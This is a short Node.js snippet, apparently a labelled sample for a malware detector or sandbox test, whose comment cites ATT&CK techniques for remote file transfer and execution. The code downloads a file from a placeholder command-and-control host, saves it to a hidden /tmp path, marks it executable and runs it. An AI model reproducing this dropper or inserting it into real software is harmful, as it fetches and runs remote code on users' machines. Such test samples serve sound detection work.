// expect: dropped-and-started | source: T1105, T1204.002
const fs = require("fs");
const https = require("https");
const { execFile } = require("child_process");
const place = "/tmp/.helper";
https.get("https://c2.example.invalid/helper", (answer) => {
  const file = fs.createWriteStream(place);
  answer.pipe(file);
  file.on("finish", () => {
    fs.chmodSync(place, 0o755);
    execFile(place);
  });
});
